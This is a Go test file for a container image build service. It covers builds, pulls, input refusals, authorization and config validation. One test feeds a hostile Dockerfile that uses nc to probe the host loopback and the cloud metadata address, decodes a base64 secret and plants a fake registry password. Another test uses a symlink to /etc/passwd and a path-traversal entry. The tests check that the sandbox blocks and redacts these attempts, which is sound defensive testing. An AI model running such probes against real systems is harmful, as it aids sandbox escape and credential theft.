package builder_test

import (
	"encoding/json"
	"io"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-containerregistry/pkg/name"
	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/remote"

	"github.com/roadstead-io/roadstead/api"
	"github.com/roadstead-io/roadstead/internal/builder"
	"github.com/roadstead-io/roadstead/internal/pki"
)

// pullToken is a pull token of the signer's as a device has it.
func (w *world) pullToken(repository string) string {
	w.t.Helper()
	id := must(pki.LoadIdentity(filepath.Join(w.dir, api.RoleAPI)))(w.t)
	signerPeer := id.Client(api.RoleSigner, w.cfg.Peers[api.RoleSigner])
	ask := must(json.Marshal([]api.PullTokenRequest{{Subject: "d_x", Access: []api.Grant{{Type: "repository", Name: repository, Actions: []string{"pull"}}}}}))(w.t)
	res := must(signerPeer.HTTP.Post(signerPeer.URL+"/v1/pull-tokens", "application/json", strings.NewReader(string(ask))))(w.t)
	defer res.Body.Close()
	var token [1]api.SignedToken
	check(w.t, json.NewDecoder(res.Body).Decode(&token))
	return token[0].Token
}

// pull reads an image back from the registry.
func (w *world) pull(repository, digest string) v1.Image {
	w.t.Helper()
	edge := must(pki.LoadIdentity(filepath.Join(w.dir, api.RoleEdge)))(w.t)
	way := edge.Client(api.RoleRegistry, w.registry)
	ref := must(name.NewDigest(site.Host("registry2") + "/" + repository + "@" + digest))(w.t)
	img := must(remote.Image(ref, remote.WithTransport(toRegistry{way, w.pullToken(repository)})))(w.t)
	return img
}

// toRegistry sends every request to the registry role, as the edge does.
type toRegistry struct {
	way   *pki.Peer
	token string
}

func (t toRegistry) RoundTrip(r *http.Request) (*http.Response, error) {
	r = r.Clone(r.Context())
	r.Host = r.URL.Host
	r.URL.Scheme, r.URL.Host = "https", strings.TrimPrefix(t.way.URL, "https://")
	r.Header.Set("Authorization", "Bearer "+t.token)
	return t.way.HTTP.Transport.RoundTrip(r)
}

func TestTheHelloExampleBecomesARelease(t *testing.T) {
	w := newWorld(t, buildService(t), builder.Limits{})
	w.withBase()
	out := w.build(nil, tree(t, "../../examples/hello"))
	if out.failed || out.release.Status != api.StatusSuccess {
		t.Fatalf("status %q, stream:\n%s", out.release.Status, out.text)
	}
	r := out.release.result
	if len(r.Images) != 2 {
		t.Fatalf("%d images, want 2: %+v", len(r.Images), r.Images)
	}
	for _, result := range r.Images {
		img := w.pull(repositoryOf(out.release, result.ID), result.Digest)
		cfg := must(img.ConfigFile())(t)
		if cfg.Architecture != "amd64" || cfg.OS != "linux" {
			t.Errorf("the image is for %s/%s", cfg.OS, cfg.Architecture)
		}
		layers := must(img.Layers())(t)
		var sum int64
		for _, l := range layers {
			sum += must(l.Size())(t)
		}
		if result.Size <= sum {
			t.Errorf("recorded size %d, but the layers alone have %d", result.Size, sum)
		}
		if result.ProjectType != "Standard Dockerfile" || !strings.HasPrefix(result.Dockerfile, "FROM base/busybox") {
			t.Errorf("recorded as %q with Dockerfile %q", result.ProjectType, result.Dockerfile)
		}
	}
	for _, want := range []string{"[web] #", "COPY index.html", "[writer] #", "pushing sha256:", "Release 00000000000000000000000000000001 of acme/hello is ready"} {
		if !strings.Contains(out.text, want) {
			t.Errorf("the stream does not hold %q:\n%s", want, out.text)
		}
	}
	if !strings.Contains(r.Log, "COPY index.html") {
		t.Errorf("the release's log is\n%s", r.Log)
	}
	await(t, "the work directory is empty", w.workEmpty)

	// Again, with one line changed: warm, and the writer's image is the same to the byte.
	files := tree(t, "../../examples/hello")
	files["web/index.html"] += "<p>changed</p>\n"
	began := time.Now()
	again := w.build(nil, files)
	t.Logf("a warm push of a one-line change took %s", time.Since(began))
	if again.failed {
		t.Fatalf("stream:\n%s", again.text)
	}
	if a, b := digestOf(out.release, "writer"), digestOf(again.release, "writer"); a != b {
		t.Errorf("the unchanged service's image went from %s to %s", a, b)
	}
	if a, b := digestOf(out.release, "web"), digestOf(again.release, "web"); a == b {
		t.Errorf("the changed service's image is still %s", a)
	}
}

func repositoryOf(r release, id int64) string {
	for _, image := range r.images {
		if image.ID == id {
			return image.Repository
		}
	}
	return ""
}

func digestOf(r release, service string) string {
	for _, image := range r.images {
		for _, result := range r.result.Images {
			if image.Service == service && result.ID == image.ID {
				return result.Digest
			}
		}
	}
	return ""
}

func TestAFailingBuildSpeaksTheCompilersWords(t *testing.T) {
	w := newWorld(t, buildService(t), builder.Limits{})
	w.withBase()
	out := w.build(nil, tree(t, "../../examples/broken"))
	if !out.failed || out.release.Status != api.StatusFailed {
		t.Fatalf("status %q, stream:\n%s", out.release.Status, out.text)
	}
	for _, want := range []string{"the frobnicator is not installed", "exit code: 3", ">>> RUN"} {
		if !strings.Contains(out.text, want) || !strings.Contains(out.release.result.Log, want) {
			t.Errorf("neither stream nor log may lack %q; stream:\n%s", want, out.text)
		}
	}
	await(t, "the work directory is empty", w.workEmpty)
}

func TestBuildStepsAreWalledIn(t *testing.T) {
	w := newWorld(t, buildService(t), builder.Limits{})
	w.withBase()
	port := w.registry[strings.LastIndexByte(w.registry, ':')+1:]
	out := w.build(nil, map[string]string{
		"Dockerfile": "# syntax=registry.example.com/evil/frontend\n" +
			"FROM base/busybox\n" +
			"COPY . /src\n" +
			"RUN id -u; ls -lAR /src; uname -m; stat -c '%u %a %n' / /src/secret.txt; env\n" +
			// A listener of the step's own proves that nc works; the host's loopback must be out of reach by both its names.
			"RUN nc -l -p 9999 >/dev/null & sleep 1; echo x | nc -w 2 127.0.0.1 9999 && echo OWN\n" +
			"RUN for a in 127.0.0.1 10.0.2.2; do echo x | nc -w 2 $a " + port + " && echo REACHED $a; done; echo tried\n" +
			// A cloud's credentials are not for builds.
			"RUN nc -w 2 169.254.169.254 80 2>&1 || echo refused\n" +
			// A secret that a step knows otherwise is not said.
			"RUN echo dTpodW50ZXIy | base64 -d\n",
		"secret.txt":                    "x",
		".balena/registry-secrets.json": `{"registry.example.com":{"username":"u","password":"hunter2"}}`,
	})
	if out.failed {
		t.Fatalf("stream:\n%s", out.text)
	}
	for _, want := range []string{"x86_64", "0 755 /\n", "0 755 /src/secret.txt", "   OWN", "   tried", "   refused", "[secret]"} {
		if !strings.Contains(out.text, want) {
			t.Errorf("the stream lacks %q", want)
		}
	}
	await(t, "the release has its end", func() bool { return w.releases.get(1).result != nil })
	log := w.releases.get(1).result.Log
	for _, evil := range []string{"registry-secrets", ".balena", "hunter2", "dTpodW50ZXIy", "   REACHED"} {
		if strings.Contains(out.text, evil) || strings.Contains(log, evil) {
			t.Errorf("the stream or the log holds %q", evil)
		}
	}
	if !strings.Contains(log, "[secret]") {
		t.Error("the log lacks the line with the secret taken out")
	}
	if t.Failed() {
		t.Log(out.text)
	}
}

func TestHeadlessAnswersAtOnceAndBuildsOn(t *testing.T) {
	w := newWorld(t, buildService(t), builder.Limits{})
	w.withBase()
	res := w.push(t.Context(), url.Values{"headless": {"true"}}, pack(t, map[string]string{"Dockerfile": "FROM base/busybox\nRUN sleep 1\n"}))
	text := must(io.ReadAll(res.Body))(t)
	_ = res.Body.Close()
	if got, want := strings.TrimSpace(string(text)), `{"started":true,"releaseId":1}`; got != want {
		t.Errorf("the answer is %s, want %s", got, want)
	}
	await(t, "the release is ready", func() bool { return w.releases.get(1).Status == api.StatusSuccess })
}

func TestRefusalsBeforeTheStream(t *testing.T) {
	w := newWorld(t, "unix:///nonexistent", builder.Limits{SourceEntries: 10})
	good := map[string]string{"Dockerfile": "FROM base/busybox\n"}
	many := map[string]string{}
	for _, c := range "abcdefghijklmnop" {
		many[string(c)] = ""
	}
	for title, c := range map[string]struct {
		query url.Values
		files map[string]string
		code  int
		want  string
	}{
		"no fleet":         {url.Values{"slug": {""}}, good, 400, `"slug" is missing`},
		"unknown fleet":    {url.Values{"slug": {"acme/nothing"}}, good, 404, `there is no fleet "acme/nothing"`},
		"bad flag":         {url.Values{"nocache": {"perhaps"}}, good, 400, `nocache must be true or false`},
		"path outside":     {url.Values{"dockerfilePath": {"../Dockerfile"}}, good, 400, "inside the source"},
		"tar with parent":  {nil, map[string]string{"../x": ""}, 400, `"../x"`},
		"tar with a link":  {nil, map[string]string{"x@": "/etc/passwd"}, 400, "lead outside"},
		"too many entries": {nil, many, 413, "more than 10 entries"},
	} {
		t.Run(title, func(t *testing.T) {
			res := w.push(t.Context(), c.query, pack(t, c.files))
			defer res.Body.Close()
			text := must(io.ReadAll(res.Body))(t)
			if res.StatusCode != c.code || !strings.Contains(string(text), c.want) {
				t.Errorf("%d %s, want %d with %q", res.StatusCode, text, c.code, c.want)
			}
			if ct := res.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/plain") {
				t.Errorf("Content-Type %q, want plain text", ct)
			}
		})
	}
	w.releases.set(func(s *releases) {
		for id, b := range s.builds {
			if b.Status != api.StatusFailed || b.result.Log == "" {
				t.Errorf("build %d ended as %q with log %q, want failed with a log", id, b.Status, b.result.Log)
			}
		}
	})
	if !w.workEmpty() {
		t.Error("refused sources stay on disk")
	}
	req := must(http.NewRequestWithContext(t.Context(), http.MethodPost, w.edge.URL+"/v3/build?slug="+testFleet, http.NoBody))(t)
	res := must(w.edge.HTTP.Do(req))(t)
	_ = res.Body.Close()
	if res.StatusCode != http.StatusUnauthorized {
		t.Errorf("without a token: %s", res.Status)
	}
}

func TestOnlyTheEdgeMayPush(t *testing.T) {
	w := newWorld(t, "unix:///nonexistent", builder.Limits{})
	for _, name := range []string{api.RoleRegistry, api.RoleSigner, api.RoleAPI} {
		id := must(pki.LoadIdentity(filepath.Join(w.dir, name)))(t)
		peer := id.Client(api.RoleBuilder, strings.TrimPrefix(w.edge.URL, "https://"))
		res := must(peer.HTTP.Post(peer.URL+"/v3/build?slug="+testFleet, "", http.NoBody))(t)
		_ = res.Body.Close()
		if res.StatusCode != http.StatusForbidden {
			t.Errorf("%s pushes: %s", name, res.Status)
		}
		res = must(peer.HTTP.Get(peer.URL + "/healthz"))(t)
		_ = res.Body.Close()
		if res.StatusCode != http.StatusOK {
			t.Errorf("%s asks for health: %s", name, res.Status)
		}
	}
}

func TestConfigNamesTheField(t *testing.T) {
	good := builder.Config{Dir: "/x", Site: site, BuildKit: "unix:///x", Peers: map[string]string{"api": "a", "signer": "b", "registry": "c"}}
	check(t, good.Validate())
	for want, spoil := range map[string]func(*builder.Config){
		"dir":                     func(c *builder.Config) { c.Dir = "" },
		"site.domain":             func(c *builder.Config) { c.Site.Domain = "" },
		"buildkit":                func(c *builder.Config) { c.BuildKit = "tcp://1.2.3.4" },
		"peers.api":               func(c *builder.Config) { c.Peers = nil },
		"limits: builds=-1":       func(c *builder.Config) { c.Limits.Builds = -1 },
		"limits: source_bytes=-1": func(c *builder.Config) { c.Limits.SourceBytes = -1 },
	} {
		c := good
		spoil(&c)
		if err := c.Validate(); err == nil || !strings.HasPrefix(err.Error(), want) {
			t.Errorf("Validate: %v, want it to name %s", err, want)
		}
	}
}

func TestLeftoversGoWhenTheRoleStarts(t *testing.T) {
	w := newWorld(t, "unix:///nonexistent", builder.Limits{})
	w.stop()
	left := filepath.Join(w.cfg.Dir, "work", "7-left", "source")
	check(t, os.MkdirAll(left, 0o700))
	w.startBuilder(discard)
	if !w.workEmpty() {
		t.Error("what a killed builder left is still there")
	}
}
